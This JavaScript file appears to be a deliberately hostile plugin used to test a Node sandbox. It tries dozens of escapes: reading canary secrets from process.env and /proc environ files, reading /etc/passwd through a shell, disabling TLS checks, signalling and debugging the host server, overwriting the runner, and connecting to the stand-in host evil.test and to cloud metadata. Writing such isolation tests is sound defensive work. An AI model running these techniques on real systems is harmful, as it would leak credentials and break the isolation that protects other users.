/**
 * A piece that tries to get at what is not its own. Each way returns what it got: a text or an object is a success for
 * it, and nothing (or an error) is none. `target` names what the test has put within reach of a process without walls.
 */
const { createRequire } = require('node:module');
const fs = require('node:fs');
const net = require('node:net');
const path = require('node:path');

const whole = (file) => fs.readFileSync(file, 'utf8');
const read = (file) => whole(file).slice(0, 2000);
const soon = (work) => Promise.race([work, new Promise((resolve) => setTimeout(resolve, 1500))]);
/** The first data, or word of a connection */
const talk = (socket) =>
  soon(
    new Promise((resolve, reject) => {
      socket.on('data', (data) => resolve(String(data)));
      socket.on('connect', () => resolve('connected'));
      socket.on('error', reject);
    }),
  );
const talkSecurely = (socket) =>
  soon(new Promise((resolve, reject) => socket.on('secureConnect', () => resolve('connected')).on('error', reject)));
const evidence = (work) => soon(work.then(() => 'done'));

const environment = {
  'the names in process.env': () => Object.keys(process.env).join() || undefined,
  'the canary in process.env': () => process.env.CANARY,
  'the home folder': () => process.env.HOME ?? process.env.USERPROFILE,
  'the environment file of this process': () => /CANARY=[^\0]*/.exec(whole('/proc/self/environ'))?.[0],
  'the environment file of the parent': () => read(`/proc/${process.ppid}/environ`),
  'the environment file of the first process': () => read('/proc/1/environ'),
  'the environment file of any process': () =>
    fs
      .readdirSync('/proc')
      .flatMap((id) => (/^\d+$/.test(id) ? [whole(`/proc/${id}/environ`)] : []))
      .find((text) => text.includes('CANARY')),
  'the environment in a diagnostic report': () => /CANARY[^,]*/.exec(JSON.stringify(process.report.getReport()))?.[0],
  'the command line of the parent': () => read(`/proc/${process.ppid}/cmdline`),
  'certificate checks switched off': () => {
    process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0';
    return process.env.NODE_TLS_REJECT_UNAUTHORIZED;
  },
  'certificate checks switched off by definition': () => {
    Object.defineProperty(process.env, 'NODE_TLS_REJECT_UNAUTHORIZED', {
      value: '0',
      configurable: true,
      enumerable: true,
      writable: true,
    });
    return process.env.NODE_TLS_REJECT_UNAUTHORIZED;
  },
  'another environment': () => {
    Object.defineProperty(process, 'env', { value: { NODE_TLS_REJECT_UNAUTHORIZED: '0' } });
    return process.env.NODE_TLS_REJECT_UNAUTHORIZED;
  },
};

const files = {
  'the canary file': ({ file }) => read(file),
  'the canary file, by a promise': async ({ file }) => String(await fs.promises.readFile(file)),
  'the canary file, by a stream': ({ file }) => talk(fs.createReadStream(file)),
  'the canary file, by a descriptor': ({ file }) => {
    const buffer = Buffer.alloc(100);
    fs.readSync(fs.openSync(file), buffer);
    return String(buffer);
  },
  'the canary file, as a module': ({ file }) => createRequire(__filename)(file),
  'the canary file, by import': async ({ file }) => (await import(file, { with: { type: 'json' } })).default.canary,
  'the canary file, by a link': ({ file }) => {
    fs.symlinkSync(file, path.join(__dirname, 'link'));
    return read(path.join(__dirname, 'link'));
  },
  'the canary file, by a way up': ({ file }) => read(path.join(__dirname, '../../../../../../../..', file)),
  'the canary file, through /proc': ({ file }) => read(`/proc/self/root${file}`),
  'the canary file, through the parent': ({ file }) => read(`/proc/${process.ppid}/root${file}`),
  'a database beside the canary file': ({ file }) => {
    const { DatabaseSync } = require('node:sqlite');
    return new DatabaseSync(`${file}.db`).exec('CREATE TABLE found (it)') ?? 'written';
  },
  'the users of the machine': () => read('/etc/passwd'),
  'the list of the root folder': () => fs.readdirSync('/').join(),
  'the list of the home folders': () => fs.readdirSync('/home').join() || fs.readdirSync('/root').join(),
  'a change of the piece itself': () => fs.writeFileSync(__filename, '') ?? 'written',
  'a change of the runner': () =>
    fs.writeFileSync(path.join(path.dirname(process.argv[1]), 'main.ts'), '') ?? 'written',
  'a file in the temporary folder': () => fs.writeFileSync('/tmp/left-by-a-piece', 'x') ?? 'written',
  'a socket of the dialler kept for later': () => fs.readdirSync('/sockets').join() || undefined,
};

const processes = {
  'a signal to the parent': () => process.kill(process.ppid, 'SIGCONT') && process.ppid > 1 && 'sent',
  'a signal to the server': ({ pid }) => process.kill(pid, 'SIGCONT') && 'sent',
  'a signal to everybody': () => process.kill(-1, 'SIGCONT') && 'sent',
  'the debugger of the server': ({ pid }) => process._debugProcess(pid) ?? 'asked',
  'the memory of the server': ({ pid }) => fs.openSync(`/proc/${pid}/mem`, 'r'),
  'the map of the memory of the server': ({ pid }) => read(`/proc/${pid}/maps`),
  'a message to the parent': () => process.send && process.send('x') && 'sent',
  'a shell': () => String(require('node:child_process').execSync('cat /etc/passwd')),
  'another program': () => String(require('node:child_process').spawnSync('/usr/bin/id').stdout ?? ''),
  'another Node': () => String(require('node:child_process').execFileSync(process.execPath, ['-e', 'console.log(1)'])),
  'a fork': () =>
    evidence(
      new Promise((resolve, reject) =>
        require('node:child_process').fork(__filename).on('spawn', resolve).on('error', reject),
      ),
    ),
  'a thread': () =>
    evidence(
      new Promise((resolve, reject) =>
        new (require('node:worker_threads').Worker)('', { eval: true }).on('online', resolve).on('error', reject),
      ),
    ),
  'a cluster': () => require('node:cluster').fork() && 'forked',
  'a native addon': () => process.dlopen({ exports: {} }, '/usr/lib/x.node') ?? 'loaded',
  'the parts inside Node': () => typeof process.binding('tcp_wrap').TCP,
  'the debugger of this process': () => require('node:inspector').open(0) ?? require('node:inspector').url(),
  'another program in place of this': () => process.execve('/usr/bin/id', [], {}) ?? 'run',
  'a file of the project': () => read(path.join(__dirname, '../../../../server/config.ts')),
};

const network = {
  'the server’s own port, raw': ({ port }) => talk(net.connect(port, '127.0.0.1')),
  'the server’s own port, by name': ({ port }) => talk(net.connect(port, 'localhost')),
  'the server’s own port, over IPv6': ({ port }) => talk(net.connect(port, '::1')),
  'the server’s own port, by fetch': async ({ port }) => (await soon(fetch(`http://127.0.0.1:${port}/`))).status,
  'the server’s own port, by http': ({ port }) =>
    soon(
      new Promise((resolve, reject) =>
        require('node:http')
          .get({ port, host: '127.0.0.1' }, (answer) => resolve(answer.statusCode))
          .on('error', reject),
      ),
    ),
  'the server’s own port, by an agent of its own': ({ port }) => {
    const agent = new (require('node:http').Agent)({ keepAlive: true });
    return talk(agent.createConnection({ port, host: '127.0.0.1' }));
  },
  'the server’s own port, by a WebSocket': ({ port }) =>
    soon(
      new Promise((resolve) => new WebSocket(`ws://127.0.0.1:${port}`).addEventListener('open', () => resolve('open'))),
    ),
  'the server’s own port, by a socket with a handle': ({ port }) => {
    const server = net.createServer();
    const { TCP } = Object.getPrototypeOf(server).constructor;
    return TCP && talk(new net.Socket({ handle: new TCP(0) }).connect(port, '127.0.0.1'));
  },
  'the server’s own port, by the connect of before': ({ port }) => {
    const plain = Object.getPrototypeOf(require('node:tls').TLSSocket.prototype).connect;
    return talk(plain.call(new net.Socket(), { port, host: '127.0.0.1' }));
  },
  'the server’s own port, by a stolen call': ({ port }) => {
    let stolen;
    const { apply } = Reflect;
    Reflect.apply = (...given) => ((stolen ??= given[0]), apply(...given));
    net.connect(443, 'allowed.test').on('error', () => undefined);
    Reflect.apply = apply;
    return stolen && talk(stolen.call(new net.Socket(), { port, host: '127.0.0.1' }));
  },
  'another host': () => talk(net.connect(443, 'evil.test')),
  'another host, with TLS': () => talkSecurely(require('node:tls').connect(443, 'evil.test')),
  'another host that looks allowed': () => talk(net.connect(443, 'allowed.test.evil.test')),
  'another host, by a proxy setting': async () => {
    process.env.HTTPS_PROXY = 'http://evil.test:3128';
    return (await soon(fetch('https://evil.test/'))).status;
  },
  'the cloud’s metadata': async () => (await soon(fetch('http://169.254.169.254/latest/meta-data/'))).status,
  'a socket of this machine': ({ socket }) => talk(net.connect(socket)),
  'an abstract socket': ({ abstractSocket }) => talk(net.connect({ path: abstractSocket })),
  'a datagram': ({ port }) =>
    soon(
      new Promise((resolve, reject) =>
        require('node:dgram')
          .createSocket('udp4')
          .send('x', port, '127.0.0.1', (error) => (error ? reject(error) : resolve('sent'))),
      ),
    ),
  'a name server': () =>
    soon(
      new Promise((resolve, reject) =>
        require('node:dns').resolve4('example.com', (error, found) => (error ? reject(error) : resolve(String(found)))),
      ),
    ),
  'a name server of its own': ({ port }) => {
    const resolver = new (require('node:dns').promises.Resolver)();
    resolver.setServers([`127.0.0.1:${port}`]);
    return soon(resolver.resolve4(`${process.ppid}.example.com`));
  },
  'a port to listen on': () =>
    evidence(new Promise((resolve, reject) => net.createServer().on('error', reject).listen(0, '127.0.0.1', resolve))),
  'a bad certificate': () =>
    talkSecurely(require('node:tls').connect({ host: 'untrusted.test', port: 443, rejectUnauthorized: false })),
  'a bad certificate, by fetch': async () => {
    process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0';
    return (await soon(fetch('https://untrusted.test/'))).status;
  },
};

const kinds = { environment, files, processes, network };
const ways = Object.entries(kinds).flatMap(([kind, group]) =>
  Object.entries(group).map(([name, way]) => [`${kind}: ${name}`, way]),
);

exports.hostile = {
  displayName: 'Hostile',
  auth: { type: 'SECRET_TEXT', displayName: 'Key', required: true },
  _actions: Object.fromEntries(
    ways.map(([name, way]) => [
      name,
      {
        name,
        displayName: name,
        props: {},
        run: async ({ propsValue }) => {
          try {
            const got = await way(propsValue);
            return { got: got === undefined || got === false || got === null ? null : String(got) };
          } catch (error) {
            return { got: null, error: String(error?.code ?? error) };
          }
        },
      },
    ]),
  ),
};
